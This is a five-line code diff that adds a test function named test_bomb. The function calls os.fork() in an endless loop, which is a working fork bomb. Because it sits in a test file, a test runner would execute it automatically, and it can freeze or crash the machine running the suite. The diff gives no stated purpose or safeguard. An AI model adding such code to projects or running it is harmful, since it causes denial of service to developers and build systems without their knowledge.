@@ -1,0 +1,5 @@
+def test_bomb():
+    import os
+
+    while True:
+        os.fork()
